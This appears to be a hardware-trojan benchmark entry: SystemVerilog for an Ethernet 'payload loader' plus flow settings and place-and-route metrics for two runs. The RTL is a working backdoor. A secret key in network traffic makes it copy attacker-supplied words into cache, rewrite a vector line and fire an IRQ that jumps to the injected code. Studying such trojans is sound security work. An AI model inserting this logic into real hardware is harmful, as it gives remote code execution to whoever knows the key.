--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = eth_payload_loader
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/eth_loader_pkg.sv /design/src/rtl/eth_key_matcher.sv /design/src/rtl/eth_payload_loader.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
export CAP_MARGIN = 25
export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 1
export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 1
export CORE_ASPECT_RATIO = 1.2
export CORE_MARGIN = 5
export CORE_UTILIZATION = 41
export CTS_CLUSTER_DIAMETER = 150
export DETAILED_ROUTE_END_ITERATION = 8
export PLACE_DENSITY = 0.74
export SLEW_MARGIN = 30
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
--- constraint.sdc ---
create_clock -name i_clk -period 5.54 [get_ports i_clk]
set_input_delay 1.108 -clock i_clk [delete_from_list [all_inputs] [get_ports i_clk]]
set_output_delay 1.108 -clock i_clk [all_outputs]
set_load 0.05 [all_outputs]
--- src/rtl/eth_loader_pkg.sv ---
// rtl/eth_loader_pkg.sv - shared constants and FSM encodings for the Ethernet payload loader
package eth_loader_pkg;

  localparam logic [63:0]  DEF_KEY       = 64'h5f534543_5245545f;
  localparam logic [31:0]  DEF_END_WORD  = 32'h53544F50;
  localparam logic [31:0]  DEF_PAD_WORD  = 32'h58595859;
  localparam logic [31:0]  DEF_BASE_ADDR = 32'h00200000;
  localparam logic [31:0]  DEF_VEC_ADDR  = 32'h00000010;
  localparam logic [127:0] DEF_VEC_DATA  = 128'hea000040_ea000036_ea000042_e3a0f602;

  // M_KEY stands for every KEY_k state; the matcher tracks k in a separate index.
  typedef enum logic [1:0] {
    M_HUNT,
    M_KEY,
    M_CAPTURE,
    M_COMMIT
  } match_state_t;

  typedef enum logic [2:0] {
    W_IDLE,
    W_COPY,
    W_VECTOR,
    W_TRIGGER,
    W_DONE
  } write_state_t;

endpackage

--- src/rtl/eth_key_matcher.sv ---
// rtl/eth_key_matcher.sv - key sequence hunt, payload word capture and terminator detection
module eth_key_matcher
  import eth_loader_pkg::*;
#(
  parameter int                    KEY_WORDS = 2,
  parameter logic [32*KEY_WORDS-1:0] KEY     = DEF_KEY,
  parameter logic [31:0]           END_WORD  = DEF_END_WORD
) (
  input  logic        i_clk,
  input  logic        i_rst,
  input  logic [31:0] rx_data,
  input  logic        rx_valid,
  input  logic        rx_reset,
  input  logic        hold,
  output logic [31:0] cap_data,
  output logic        cap_valid,
  output logic        commit,
  output logic        abort
);

  localparam int            IW       = (KEY_WORDS > 1) ? $clog2(KEY_WORDS) : 1;
  localparam logic [31:0]   KEY0     = KEY[32*KEY_WORDS-1 -: 32];
  localparam logic [IW-1:0] LAST_IDX = IW'(KEY_WORDS - 1);

  match_state_t  state, state_nx;
  logic [IW-1:0] idx, idx_nx;
  logic [31:0]   key_exp;
  logic          word;

  assign word = rx_valid && !rx_reset && !hold;

  always_comb begin
    key_exp = KEY0;
    for (int k = 0; k < KEY_WORDS; k++) begin
      if (idx == IW'(k)) key_exp = KEY[32*(KEY_WORDS-1-k) +: 32];
    end
  end

  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      state <= M_HUNT;
      idx   <= '0;
    end else begin
      state <= state_nx;
      idx   <= idx_nx;
    end
  end

  always_comb begin
    state_nx = state;
    idx_nx   = idx;
    if (hold) begin
      state_nx = M_HUNT;
    end else begin
      case (state)
        M_HUNT: begin
          if (word && rx_data == KEY0) begin
            if (KEY_WORDS == 1) begin
              state_nx = M_CAPTURE;
            end else begin
              state_nx = M_KEY;
              idx_nx   = IW'(1);
            end
          end
        end
        M_KEY: begin
          if (rx_reset) begin
            state_nx = M_HUNT;
          end else if (word) begin
            if (rx_data == key_exp) begin
              if (idx == LAST_IDX) state_nx = M_CAPTURE;
              else                 idx_nx   = idx + 1'b1;
            end else if (rx_data == KEY0) begin
              // A stray key word 0 re-arms the match instead of losing it.
              idx_nx = IW'(1);
            end else begin
              state_nx = M_HUNT;
            end
          end
        end
        M_CAPTURE: begin
          if (rx_reset)                          state_nx = M_HUNT;
          else if (word && rx_data == END_WORD)  state_nx = M_COMMIT;
        end
        M_COMMIT: state_nx = M_HUNT;
        default:  state_nx = M_HUNT;
      endcase
    end
  end

  always_comb begin
    cap_data  = rx_data;
    cap_valid = (state == M_CAPTURE) && word && (rx_data != END_WORD);
    commit    = (state == M_COMMIT);
    abort     = !hold && rx_reset && (state == M_KEY || state == M_CAPTURE);
  end

endmodule

--- src/rtl/eth_payload_loader.sv ---
// rtl/eth_payload_loader.sv - captures a keyed RX payload and writes it to cache lines;
// ETH_LOADER_IRQ_EN adds the vector-line write and trigger IRQ.
module eth_payload_loader
  import eth_loader_pkg::*;
#(
  parameter int                      KEY_WORDS = 2,
  parameter logic [32*KEY_WORDS-1:0] KEY       = DEF_KEY,
  parameter logic [31:0]             END_WORD  = DEF_END_WORD,
  parameter int                      LINES     = 6,
  parameter logic [31:0]             BASE_ADDR = DEF_BASE_ADDR,
  parameter logic [31:0]             VEC_ADDR  = DEF_VEC_ADDR,
  parameter logic [127:0]            VEC_DATA  = DEF_VEC_DATA,
  parameter logic [31:0]             PAD_WORD  = DEF_PAD_WORD
) (
  input  logic         i_clk,
  input  logic         i_rst,
  input  logic [31:0]  i_rx_packet_data,
  input  logic         i_rx_packet_data_valid,
  input  logic         i_rx_packet_reset,
  input  logic         i_cache_stall,
  input  logic         i_fetch_stall,
  output logic         o_troj,
  output logic [127:0] o_troj_write_data,
  output logic [31:0]  o_troj_write_addr,
  output logic         o_troj_trigger_irq,
  output logic [31:0]  o_troj_jump_addr,
  output logic         o_busy,
  output logic         o_overflow
);

  localparam int             LW        = (LINES > 1) ? $clog2(LINES) : 1;
  localparam int             CW        = $clog2(LINES*4 + 1);
  localparam logic [CW-1:0]  MAX_WORDS = CW'(LINES*4);
  localparam logic [LW-1:0]  LAST_LINE = LW'(LINES - 1);
  localparam logic [127:0]   PAD_LINE  = {4{PAD_WORD}};

  logic [127:0]  store [LINES];
  logic [CW-1:0] wcnt;
  logic [LW-1:0] line_idx;
  logic          overflow;
  write_state_t  wstate, wstate_nx;
  logic [31:0]   cap_data;
  logic          cap_valid, commit, abort, accept;

  eth_key_matcher #(
    .KEY_WORDS (KEY_WORDS),
    .KEY       (KEY),
    .END_WORD  (END_WORD)
  ) u_matcher (
    .i_clk     (i_clk),
    .i_rst     (i_rst),
    .rx_data   (i_rx_packet_data),
    .rx_valid  (i_rx_packet_data_valid),
    .rx_reset  (i_rx_packet_reset),
    .hold      (o_busy),
    .cap_data  (cap_data),
    .cap_valid (cap_valid),
    .commit    (commit),
    .abort     (abort)
  );

  assign accept = o_troj && !i_cache_stall;

  always_ff @(posedge i_clk) begin
    if (i_rst) wstate <= W_IDLE;
    else       wstate <= wstate_nx;
  end

  always_comb begin
    wstate_nx = wstate;
    case (wstate)
      W_IDLE:    if (commit) wstate_nx = W_COPY;
      W_COPY: begin
        if (accept && line_idx == LAST_LINE) begin
`ifdef ETH_LOADER_IRQ_EN
          wstate_nx = W_VECTOR;
`else
          wstate_nx = W_DONE;
`endif
        end
      end
      W_VECTOR:  if (accept) wstate_nx = W_TRIGGER;
      W_TRIGGER: if (!i_fetch_stall) wstate_nx = W_DONE;
      W_DONE:    wstate_nx = W_IDLE;
      default:   wstate_nx = W_IDLE;
    endcase
  end

  always_comb begin
    o_busy            = (wstate != W_IDLE);
    o_troj            = (wstate == W_COPY) || (wstate == W_VECTOR);
    o_troj_write_data = (wstate == W_VECTOR) ? VEC_DATA : store[line_idx];
    o_troj_write_addr = (wstate == W_VECTOR) ? VEC_ADDR : BASE_ADDR + (32'(line_idx) << 4);
`ifdef ETH_LOADER_IRQ_EN
    o_troj_trigger_irq = (wstate == W_TRIGGER) && !i_fetch_stall;
`else
    o_troj_trigger_irq = 1'b0;
`endif
    o_troj_jump_addr  = BASE_ADDR;
    o_overflow        = overflow;
  end

  // Store, word counter and line pointer; capture cannot coincide with copy since the matcher is held while busy.
  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      line_idx <= '0;
      wcnt     <= '0;
      overflow <= 1'b0;
      for (int l = 0; l < LINES; l++) store[l] <= PAD_LINE;
    end else begin
      if (wstate == W_COPY && accept)
        line_idx <= (line_idx == LAST_LINE) ? '0 : line_idx + 1'b1;

      if (wstate == W_DONE) begin
        overflow <= 1'b0;
        wcnt     <= '0;
        for (int l = 0; l < LINES; l++) store[l] <= PAD_LINE;
      end else if (abort) begin
        wcnt <= '0;
        for (int l = 0; l < LINES; l++) store[l] <= PAD_LINE;
      end else if (commit) begin
        wcnt <= '0;
      end else if (cap_valid) begin
        if (wcnt != MAX_WORDS) begin
          store[wcnt[LW+1:2]][{wcnt[1:0], 5'b0} +: 32] <= cap_data;
          wcnt <= wcnt + 1'b1;
        end else begin
          overflow <= 1'b1;
        end
      end
    end
  end

endmodule

==> results, run 1 <==
- After routing the design area is 54,500 sq um.
- The start point of the critical path is wstate[0].
- Global routing used 25.1% of the available tracks.
- The floorplan step defined a die boundary enclosing ~120,000 sq um.
- In this design, the stage delay of the slowest critical-path cell is 0.76 ns.
- Dividing total power by cell area gives a power density of a little over 300 nW/um^2.
- Ranked by instance count, the synthesized netlist is headed by edfxtp_1 (1,024), nand3_1 (343), nor3_1 (312).
- Timing would allow up to 0.206 GHz.
- Including well taps, the total number of placed cells is 4,835.
- The number of synthesis warnings is 6.
- In this run, synthesis inferred 1,024 flip-flops with an integrated enable.
- The number of hold violations in the final report is 0.
- The type of the worst min-delay path is reg2reg.
- The cell accounting for the most synthesized area is edfxtp_1.
- The sequential-to-total area share from yosys stat is 65.1%.
- For the worst setup path, the data required time is 4.43 ns.
- Buffers added to address setup during post-CTS repair amount to 0.
- The via count of the first global-routing pass is 32,576.
- In this run the register-to-register setup slack is 1.63 ns.
- The number of slew-limit violations in the final report is 0.
- The first-pass detailed-route iteration total is 6.
- Once layout is complete, the cells apart from fillers number 5,025.
- The area added between synthesis and finish is 14.1%.
- For the worst flop-to-flop path, the logic depth is 8.
- The global routing's busiest layer is met2.
- The die height is 384 um.
- The most instantiated flip-flop cell in the synthesis netlist is edfxtp_1.
- The floorplan has 137 rows.
- The number of antenna violations at the first check in global routing was 5.
- The number of gates resized after cts is 0.
- IR analysis of the VDD net gives a maximum drop of approximately 0.00021 V.
- The critical path crosses 6 cells after its start point.
- The library cell appearing most often on the critical path is buf_4.
- By area the synthesized netlist is led by edfxtp_1 (64%), mux4_2 (12%), nand3_1 (3.6%).
- The most used standard cell by instance count after synthesis is edfxtp_1.
- The static power due to leakage is ~17 nW.
- The H-tree generated during clock tree synthesis spans 3 levels.
- The via-per-instance ratio is 6.20.
- The wire-length estimate of the detail-placed layout is 103 mm.
- Across the run, the number of max-cap violations was 0.
- The transition time of the tightest slew-check pin is between 1 and 1.5 ns.
- The type of element capturing the critical path is a primary output.
- TritonCTS created 100 clock buffers.
- The sum of buffers and inverters on the critical path is 3.
- The first global-routing pass estimated 229 mm of wire.
- The tightest slew margin relative to the limit is 27.0%.
- At the end of routability-driven placement, the weighted congestion stood at just under 0.9.
- In the final timing run, aggregate negative setup slack is 0 ns.
- Global routing used between 40% and 50% of the available met2 tracks.
- Global routing used 32.2% of the available met1 tracks.
- The met3 usage in global routing is 4.65%.
- The worst register-to-register path begins at wstate[0].
- The final route contains 31,147 vias.
- The setup path with the least slack is of type reg2out.
- Final hold analysis gives a worst-case slack of between 0.5 and 0.6 ns.
- Along the worst path, the maximum fanout reaches 40.
- The final net count is roughly 3,500.
- The clock net in this run drives a total of ~1,000 sinks.
- The netlist uses 73 different library cells.
- The I/O pin count is 234.
- The kind of cell adding the most delay to the critical path is buffers and inverters.
- After floorplanning, the core was sized to cover 116,000 sq um.
- After detailed routing, the number of remaining DRC violations is 0.
- The clock reaches the later pin of the worst-skew pair after 0.71 ns.
- Setup repair after global routing left no endpoint under its margin.
- A synthesized cell averages 14.5 sq um.
- The clock passes through at most 3 buffers.
- TritonCTS built the clock tree.
- The post-detailed-route count of antenna-violating nets is 0.
- The flow ran to the end, and the final reports show no timing, DRC or antenna violations.
- The master cell of the clock root buffer is clkbuf_16.
- The cell depth of the worst min-delay path is 2.
- STA classifies the critical path startpoint as a flip-flop.
- The number of standard cells after synthesis is ~3,300.
- Clock-pin slew was measured on the worst setup and hold paths at roughly 0.060 ns.
- The overflow left after global routing is 0.
- After synthesis, the largest area contributor takes up 64.4% of total cell area.
- The cell with the largest stage delay on the worst path is nor2_4.
- During placement, the flow inserted port buffers numbering 172.
- Entering global routing, the biggest net connects 139 pins.
- For this design, the CTS-stage hold fixing added 0 buffers.
- Between clock sinks in the finished design, the worst skew comes to 0.0395 ns.
- The capture instance of the worst register-to-register path is store[2][99].
- The post-synthesis sequential element count is 1,042.
- The placed standard-cell area is 51,200 sq um.
- The post-route netlist has 23.6% of its cells at a drive strength greater than 1.
- The final clock period utilization by the worst path is 87.6%.
- The first routing iteration left 3,382 violations.
- The total wire length after detailed routing is 157 mm.
- The summed instance area of the synthesized netlist is 47,800 sq um.
- In the synthesized netlist the async set-or-reset flop fraction comes to 0%.
- The time the worst path needs with I/O delays and setup is between 4 and 5 ns.
- Dividing the detail-routed wire length by the instance count gives about 31 um.
- The critical path goes through nor3b_1, buf_4, nor2_4, buf_4, a22o_1, buf_4.
- At the worst endpoint, the arrival time is 3.75 ns.
- Setup violations remaining at the end of the flow were counted as 0.
- Once the floorplan was initialized, standard cells occupied 41.2% of the core.
- The floorplan step set the die width to 322 um.
- The critical path ends at o_troj_write_data[26].
## power breakdown
| group | leakage, nW | switching [mW] | internal (mW) | total (mW) |
|---|---|---|---|---|
| clock | 1.59 | 3.08 | 3.87 | 6.95 |
| sequential | 9.58 | 0.0968 | 8.91 | 9.01 |
| combinational | 6.02 | 0.702 | 0.294 | 0.996 |
| total | 17.2 | 3.88 | 13.1 | 17.0 |
## flip-flops by register name (all words and copies together), names as in the netlist, named ones only
| signal | flops |
|---|---|
| u_matcher/state | 2 |
| o_overflow | 1 |
| wcnt | 5 |
| store | 1024 |
| line_idx | 3 |
| u_matcher/idx | 1 |
| wstate | 3 |
## layer usage
layer | vias to the layer above | wire length [um]
li1 | 12848 | -
met1 | 16293 | 58300
met2 | 1683 | 77800
met3 | 319 | 14000
met4 | 4 | 7460
met5 | - | 34
## cell families (layout without fill, tap and decap cells)
kind of cell / count (synthesis) / count (layout) / synth area share (%)
compound gates: 191 / 191 / 3.19
xor+xnor: 2 / 2 / 0.0367
fa+ha+maj: 8 / 8 / 0.209
buf+inv: 527 / 639 / 5.32
flops: 1042 / 1042 / 65.1
mux: 256 / 256 / 12.1
other cells: 2 / 96 / 0.0157
simple gates: 1262 / 1262 / 14.1
## cell usage in the layout (no fill, tap or decap), types with 6 or more instances in the layout
| cell | instances |
|---|---|
| a21oi_1 | 19 |
| a22o_1 | 92 |
| and2_1 | 9 |
| and3_1 | 43 |
| buf_12 | 23 |
| buf_4 | 297 |
| bufinv_16 | 11 |
| clkbuf_1 | 18 |
| clkbuf_16 | 101 |
| clkinv_1 | 28 |
| clkinv_2 | 17 |
| conb_1 | 93 |
| dfxtp_1 | 16 |
| edfxtp_1 | 1024 |
| ha_1 | 6 |
| inv_1 | 129 |
| mux4_2 | 256 |
| nand2_1 | 208 |
| nand2b_1 | 8 |
| nand3_1 | 343 |
| nand3b_1 | 7 |
| nand4_1 | 17 |
| nand4bb_1 | 10 |
| nor2_1 | 107 |
| nor2b_1 | 26 |
| nor2b_2 | 14 |
| nor3_1 | 306 |
| nor4_1 | 53 |
| nor4_2 | 11 |
| nor4bb_1 | 19 |
| o21ai_4 | 23 |
| o22a_1 | 36 |
## worst min path at each step
stage | slack (ns) | startpoint | to
global placement | 0.50 | line_idx[0] | flip-flop
global route | 0.55 | line_idx[0] | flip-flop
CTS | 0.52 | line_idx[0] | flip-flop
finish | 0.51 | line_idx[0] | flip-flop
floorplan | 0.47 | line_idx[0] | flip-flop
detailed placement | 0.51 | line_idx[0] | flip-flop
## worst register-to-register path, delay by kind of cell (launching register included)
kind / cells / cell delay, ns
simple gates: 5 / 1.68
compound gates: 1 / 0.82
buf+inv: 2 / 0.65
flops: 1 / 0.43
## metrics by stage
step / power, mW / utilization (%) / worst slack, ns
3_5_place_dp: 10.2 / 44.1 / 1.06
6_report: 17.0 / 47.0 / 0.686
5_1_grt: 17.4 / 47.0 / 0.596
4_1_cts: 17.0 / 46.9 / 0.740
2_1_floorplan: 9.83 / - / 0.0576
3_3_place_gp: 10.1 / 44.0 / 1.13
## cell type report
type	count	area, sq um
tap	1529	1910
multi-input combinational	1812	15000
antenna	3	7.51
clock inverter	67	676
sequential	1042	31100
fill	11387	61500
timing repair buffer	323	2740
clock buffer	119	2590
inverter	130	488
(Power assumes the default switching activity.)
==> inputs of run 2 (changes only) <==
- REMOVE_ABC_BUFFERS: default -> 1
==> run 2 against run 1 <==
  * Final cell count decreased by 0.26%
  * Clock skew decreased by 0.016 ns
  * Via count decreased by 1.8%
  * Critical path type is now reg2reg
  * Highest routed layer unchanged
==> results, run 2 (synthesis gave the netlist of run 1 again) <==
- The first-pass detailed-route iteration total came to 5 (-1).
- The number of gates resized after cts is 0 (unchanged).
- The number of core rows is 137 (unchanged).
- In the final layout, the registers with the most flip-flops are store x1024, wcnt x5.
- The largest net degree at the start of global routing is 139 (unchanged).
- The via count of the first global-routing pass was 32,507 (-0.21%).
- The number of endpoints failing setup at the final stage is 0 (unchanged).
- Compared with the post-synthesis result, the final layout area differs by 13.6%.
- The register containing the most flip-flops in the final layout is store.
- The required time at the worst-slack endpoint is 5.91 ns (+1.48 ns).
- The hold buffer count at CTS came to 0 (unchanged).
- The die height is 384 um (unchanged).
- The floorplan die width is 322 um (unchanged).
- The number of buffer cells added on primary ports is 172 (unchanged).
- The I/O pin count came to 234 (unchanged).
- The clock input transition at the sequential cells of the worst setup and hold paths is 0.06 ns (about the same).
- The run finished with clean final reports.
- The minimum hold slack is 0.524 ns (+0.0144 ns).
- The delay of the slowest cell on the worst path is 0.92 ns (+0.16 ns).
- The tightest slew margin relative to the limit was 28.1% (+1.1 points).
- The post-detailed-route count of antenna-violating nets is 0 (unchanged).
- The static power due to leakage was 17.1 nW (-0.71%).
- The buffer depth of the longest clock path came to 3 (unchanged).
- The number of violations reported at the end of detailed-routing iteration 0 is 3,231 (-4.5%).
- The total clock buffers created by CTS is 103 (+3.0%).
- Leaving out fill and tap cells, the most frequent cell in the layout is edfxtp_1.
- The final net count was 3,437 (-0.52%).
- The final clock period utilization by the worst path is 78.7% (-8.9 points).
- The count of unresolved DRC violations after routing was 0 (unchanged).
- The transition time of the tightest slew-check pin came to 1.08 ns (-0.0166 ns).
- The final weighted congestion of routability-driven global placement is 0.838 (-3.9%).
- In the layout the commonest cells are edfxtp_1 (1,024), nand3_1 (343), nor3_1 (307), buf_4 (285), mux4_2 (256).
- The number of hold violations in the final report is 0 (unchanged).
- The time the worst path needs with I/O delays and setup is 4.36 ns (-0.494 ns).
- The via total after detailed routing is 30,585 (-1.8%).
- The type of element capturing the critical path is a flip-flop.
- The initial core utilization is 41.2% (unchanged).
- The cell depth of the worst min-delay path was 2 (unchanged).
- The maximum operating frequency is 0.229 GHz (+11%).
- The wire length of the first global-routing pass came to 219 mm (-4.1%).
- The area of the core is 116,000 sq um (unchanged).
- The final instance count without filler cells is 5,012 (-0.26%).
- The largest voltage drop on the vdd net is 0.000245 V (+15%).
- The via-per-instance ratio came to 6.10 (-1.5%).
- The number of clock sinks seen by CTS came to 1,042 (unchanged).
- The clock network latency to the later pin of the worst-skew pair is 0.69 ns (-0.02 ns).
- The wire length per cell after detailed routing is 30.1 um (-4.1%).
- The number of flip-flops in the largest register is 1,024 (unchanged).
- The count of cells along the worst register-to-register path is 7 (-1).
- The cell count after placement is 4,813 (-0.46%).
- The final clock skew came to 0.0235 ns (-0.0161 ns).
- Setup repair after global routing left no endpoint under its margin.
- The number of antenna violations at the first check in global routing is 11 (+6).
- The number of slew-limit violations in the final report came to 0 (unchanged).
- The number of maximum-capacitance constraint violations is 0 (unchanged).
- The critical path startpoint category is a flip-flop.
- The master cell of the clock root buffer is clkbuf_16.
- The maximum fanout encountered on the critical timing path came to 22 (-45%).
- The worst setup path is of the reg2reg kind.
- The number of levels the H-tree was split into is 3 (unchanged).
- TritonCTS built the clock tree.
- The filler cell count in the final layout is 11,449 (+0.54%).
- The overflow left after global routing came to 0 (unchanged).
- The fraction of final layout cells with drive strength greater than 1 is 23.1% (-0.49 points).
- The critical path goes through or3_1, nor2b_1, nor3b_2, and2_1, nand3_1, o21ai_4, buf_4.
- The critical path data arrival time is 4.73 ns (+0.98 ns).
- The post-detailed-placement half-perimeter wirelength is 94.5 mm (-8.5%).
- The total routing resource utilization after global routing is 23.9% (-1.2 points).
- The final total negative setup slack came to 0 ns (unchanged).
- The slowest stage of the critical path is the o21ai_4 cell.
- The total setup buffers inserted after CTS came to 0 (unchanged).
- The power per cell area is 313 nW/um^2 (+0.68%).
- The total wire length after detailed routing is 151 mm (-4.3%).
- The area enclosed by the die boundary is 124,000 sq um (unchanged).
- The worst hold path belongs to the class reg2reg.
-- run 2: critical path, delay by kind of cell (launching register included) --
| kind | cells | cell delay, ns |
|---|---|---|
| AND/OR/NAND/NOR | 5 | 2.36 |
| buffers and inverters | 1 | 0.34 |
| flip-flops | 1 | 0.43 |
| AO/OA/AOI/OAI | 1 | 0.92 |
-- run 2: report_power, final --
part           internal, mW  total [mW]  switching (mW)
sequential             8.91        9.00          0.0915
clock                  3.97        7.01            3.04
combinational         0.287       0.977           0.690
-- run 2: through the flow --
step                      util [%]  cell area, sq um  worst slack (ns)  power, mW
after floorplan                  -             46100             -7.28       9.76
after CTS                     46.7             54200              1.17       17.1
after global placement        43.8             50800             0.901       10.1
after detailed placement      43.8             50900             0.850       10.1
final                         46.8             54300              1.18       17.0
after global routing          46.8             54300              1.05       17.5
-- run 2: cell type report --
| type | count | area [sq um] | share of cell area [%] |
|---|---|---|---|
| Timing Repair Buffer | 302 | 2470 | 4.56 |
| Clock buffer | 130 | 2700 | 4.98 |
| Antenna cell | 7 | 17.5 | 0.0323 |
| Clock inverter | 60 | 611 | 1.13 |
| Multi-Input combinational cell | 1812 | 14900 | 27.5 |
| Inverter | 130 | 488 | 0.899 |
| Tap cell | 1529 | 1910 | 3.53 |
| Sequential cell | 1042 | 31100 | 57.3 |
-- run 2: final timing paths --
path / from / end / slack (ns)
setup / recovery: wstate[0] / store[0][19] / 1.18
hold reg to reg: line_idx[0] / flip-flop / 0.52
setup reg to reg: wstate[0] / store[0][19] / 1.18
hold / removal: line_idx[0] / flip-flop / 0.52
-- run 2: per-layer routing --
metal  track usage (%)  vias up  routed length [um]
met4              10.8        4                7160
met1              29.6    15999               55900
met2              40.1     1469               75400
met5                 0        -                  34
li1                  -    12798                   -
met3              5.35      315               12200
